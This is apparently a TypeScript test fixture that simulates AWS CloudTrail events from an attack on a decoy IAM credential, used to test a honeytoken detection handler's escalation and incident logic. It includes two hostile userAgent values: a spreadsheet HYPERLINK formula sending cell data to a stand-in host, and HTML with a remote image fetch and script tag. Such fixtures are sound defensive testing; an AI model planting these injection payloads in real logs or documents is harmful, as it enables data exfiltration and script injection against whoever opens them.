import { cloudTrailEvent, type EventOptions } from './events.ts';

/**
 * A small attack on one decoy, shaped to hit every escalation kind once, plus a quiet earlier
 * incident on a second decoy. Feed it in order through the real detect-use handler.
 *
 * prod-db-backup-user, from 09:00Z:
 *   - a denied iam:ListUsers opens the incident (aws-cli on Kali, DigitalOcean)
 *   - a denied enumeration sweep, held back from mail
 *   - sts:GetCallerIdentity succeeds: first success
 *   - boto3 from a second DigitalOcean address: new tool
 *   - ec2:RunInstances, a write: first write
 *   - the decoy's minted ASIA session key is used: new category session-use
 *   - a call from a residential ISP: new network kind
 *   - two held calls with hostile userAgents (a spreadsheet formula, HTML that would fetch)
 */
export const ATTACK_DECOY = 'prod-db-backup-user';
export const QUIET_DECOY = 'ci-cd-deploy-admin';
export const HOSTILE_FORMULA = '=HYPERLINK("http://formula.example/"&A1,"click")';
export const HOSTILE_HTML = '<img src="http://fetch.example/x.png"><script>alert(1)</script>';

const KALI_CLI =
  'aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.12.13-amd64 md/distrib#kali.2025 lang/python#3.12.6';
const BOTO3 = 'Boto3/1.34.11 Python/3.11.7 Linux/6.6.9-amd64 Botocore/1.34.11';
const HOSTING = '167.99.32.11';
const HOSTING_2 = '167.99.32.12';
const ISP = '73.158.64.15';

type Delivery = ReturnType<typeof cloudTrailEvent>;

function call(at: string, options: EventOptions & { write?: boolean }): Delivery {
  const event = cloudTrailEvent({
    userName: ATTACK_DECOY,
    accessKeyId: 'AKIA2E0A8F3B244C9986',
    sourceIPAddress: HOSTING,
    userAgent: KALI_CLI,
    eventTime: at,
    ...options,
  });
  if (options.write) event.detail.readOnly = false;
  return event;
}

const SWEEP: [string, string][] = [
  ['iam.amazonaws.com', 'ListRoles'],
  ['s3.amazonaws.com', 'ListBuckets'],
  ['ec2.amazonaws.com', 'DescribeInstances'],
  ['lambda.amazonaws.com', 'ListFunctions20150331'],
  ['secretsmanager.amazonaws.com', 'ListSecrets'],
  ['dynamodb.amazonaws.com', 'ListTables'],
];

export function attackEvents(): Delivery[] {
  const denied = { errorCode: 'AccessDenied' };
  return [
    call('2026-11-20T09:00:00Z', { eventSource: 'iam.amazonaws.com', eventName: 'ListUsers', ...denied }),
    ...SWEEP.map(([eventSource, eventName], i) =>
      call(`2026-11-20T09:00:${String(5 + i * 5).padStart(2, '0')}Z`, { eventSource, eventName, ...denied }),
    ),
    call('2026-11-20T09:01:10Z', {}),
    call('2026-11-20T09:03:00Z', {
      eventSource: 's3.amazonaws.com',
      eventName: 'ListBuckets',
      userAgent: BOTO3,
      sourceIPAddress: HOSTING_2,
      ...denied,
    }),
    call('2026-11-20T09:05:00Z', {
      eventSource: 'ec2.amazonaws.com',
      eventName: 'RunInstances',
      write: true,
      ...denied,
    }),
    call('2026-11-20T09:12:00Z', { accessKeyId: 'ASIA2E0A8F3B24EXAMPL' }),
    call('2026-11-20T09:20:00Z', {
      sourceIPAddress: ISP,
      eventSource: 'iam.amazonaws.com',
      eventName: 'ListUsers',
      ...denied,
    }),
    call('2026-11-20T09:21:00Z', {
      sourceIPAddress: ISP,
      userAgent: HOSTILE_FORMULA,
      eventName: 'GetCallerIdentity',
    }),
    call('2026-11-20T09:22:00Z', {
      sourceIPAddress: ISP,
      userAgent: HOSTILE_HTML,
      eventName: 'GetCallerIdentity',
    }),
  ];
}

/** One call on another decoy, two days earlier: a second, older incident. */
export function quietEvents(): Delivery[] {
  return [
    cloudTrailEvent({
      userName: QUIET_DECOY,
      accessKeyId: 'AKIAY4M2PZ7NQ3XR5TKL',
      sourceIPAddress: '198.51.100.7',
      userAgent: 'TruffleHog',
      eventTime: '2026-11-18T14:30:00Z',
    }),
  ];
}

/** A call after the attack incident was resolved: it must open a new incident. */
export function laterEvent(): Delivery {
  return call('2026-11-20T11:00:00Z', {});
}
